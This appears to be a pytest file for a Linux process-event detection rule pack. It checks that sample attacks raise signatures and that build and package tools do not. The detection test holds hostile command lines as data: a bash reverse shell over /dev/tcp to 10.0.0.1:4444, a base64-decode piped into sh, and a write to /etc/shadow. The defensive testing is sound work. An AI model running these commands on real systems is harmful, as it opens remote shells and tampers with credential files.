"""The default Linux rule pack: catches the README examples, quiet on a build/package host."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

import rules

PACK = Path(__file__).resolve().parents[3] / "appliance" / "defaults" / "linux.gen"
CHANNEL = "Linux-Sysmon/Operational"


@pytest.fixture(scope="module")
def engine() -> rules.Engine:
    return rules.Engine(rules.load([PACK]))


def proc(
    image: str, command_line: str, parent: str = "/usr/bin/bash", user: str = "root"
) -> dict[str, Any]:
    return {
        "Event": {
            "System": {
                "Channel": CHANNEL,
                "EventID": 1,
                "Computer": "build01",
                "TimeCreated": {"SystemTime": "2026-12-05T10:00:00Z"},
            },
            "EventData": {
                "Image": image,
                "CommandLine": command_line,
                "ParentImage": parent,
                "User": user,
                "CurrentDirectory": "/root",
            },
        }
    }


def file_write(image: str, target: str) -> dict[str, Any]:
    ev = proc(image, image)
    ev["Event"]["System"]["EventID"] = 11
    ev["Event"]["EventData"]["TargetFilename"] = target
    return ev


def sigs(engine: rules.Engine, event: dict[str, Any]) -> list[str]:
    det = engine.match(event)
    return list(det.signatures) if det is not None else []


def test_readme_examples_are_detected(engine: rules.Engine) -> None:
    assert sigs(engine, proc("/usr/bin/bash", "bash -c echo aGkK | base64 -d | sh")) == [
        "LinuxBase64DecodeToShell"
    ]
    assert sigs(engine, proc("/tmp/x", "/tmp/x")) == ["LinuxExecFromTempDir"]
    assert sigs(engine, proc("/dev/shm/.x", "/dev/shm/.x", parent="/usr/bin/python3")) == [
        "LinuxExecFromTempDir"
    ]
    assert sigs(engine, proc("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")) == [
        "LinuxReverseShell"
    ]
    assert sigs(engine, file_write("/usr/bin/python3", "/etc/shadow")) == [
        "LinuxCredentialFileWrite"
    ]


@pytest.mark.parametrize(
    ("image", "parent"),
    [
        ("/tmp/pip-build-env-k2j3/overlay/bin/cmake", "/usr/bin/python3"),
        ("/tmp/pytest-of-root/pytest-7/test_x0/helper", "/usr/bin/python3"),
        ("/tmp/go-build123456/b001/exe/main", "/usr/lib/go/bin/go"),
        ("/tmp/tmpa1b2c3d4/configure-probe", "/usr/bin/python3"),
        ("/tmp/_MEIa1B2c3/heron-agent", "/usr/bin/heron-agent"),
        ("/tmp/build-xyz/conftest", "/usr/bin/make"),
        ("/tmp/cc-tool/out/gen", "/usr/bin/ninja"),
        ("/var/tmp/pkg/postinst-helper", "/usr/bin/dpkg"),
    ],
)
def test_build_and_package_tooling_is_quiet(engine: rules.Engine, image: str, parent: str) -> None:
    assert sigs(engine, proc(image, image, parent=parent)) == []


def test_account_tools_writing_credential_files_are_quiet(engine: rules.Engine) -> None:
    assert sigs(engine, file_write("/usr/sbin/useradd", "/etc/passwd")) == []
    assert sigs(engine, file_write("/usr/bin/passwd", "/etc/shadow")) == []


def test_exec_from_tmp_asks_for_no_dump(engine: rules.Engine) -> None:
    det = engine.match(proc("/tmp/x", "/tmp/x"))
    assert det is not None and det.criticality == 6
    assert "filedump" not in det.actions and "memdump" not in det.actions
